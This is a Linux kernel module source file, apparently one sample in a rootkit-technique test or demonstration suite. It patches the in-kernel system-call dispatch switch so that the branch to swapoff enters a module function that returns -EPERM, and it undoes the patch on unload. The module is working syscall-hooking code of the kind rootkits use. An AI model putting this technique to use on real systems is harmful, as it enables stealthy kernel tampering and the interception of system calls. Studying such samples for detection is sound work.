// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the switch that dispatches system calls (x64_sys_call, of 32-bit kernels ia32_sys_call) is
 * patched: the branch that enters a call's function enters the module's. Who: what rootkits after Diamorphine must do where
 * sys_call_table is not used any more.
 * Changes: the branch to swapoff, which nobody calls here. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/ptrace.h>

#ifdef CONFIG_X86_64
KERNEL_SYMBOL(x64_sys_call);
#define dispatch_at x64_sys_call_at
#else
KERNEL_SYMBOL(ia32_sys_call);
#define dispatch_at ia32_sys_call_at
#endif
KERNEL_SYMBOL_SWAPOFF;

static u8 *site, original[5];

static noinline asmlinkage long hooked_swapoff(const struct pt_regs *registers)
{
	return -EPERM;
}

static int __init start(void)
{
	u8 *at = (u8 *)dispatch_at, *end = at + 24000, bytes[5];

	if (!at || !swapoff_at)
		return -ENOENT;
	for (; at < end && !site; ++at) {
		s32 distance;

		if (*at != 0xe8 && *at != 0xe9)
			continue;
		memcpy(&distance, at + 1, 4);
		if ((unsigned long)at + 5 + distance == swapoff_at)
			site = at;
	}
	if (!site)
		return -ESRCH;
	memcpy(original, site, 5);
	branch(bytes, site[0], site, hooked_swapoff);
	write_protected(site, bytes, 5);
	return 0;
}

static void __exit stop(void)
{
	write_protected(site, original, 5);
}

ATTACK(start, stop);
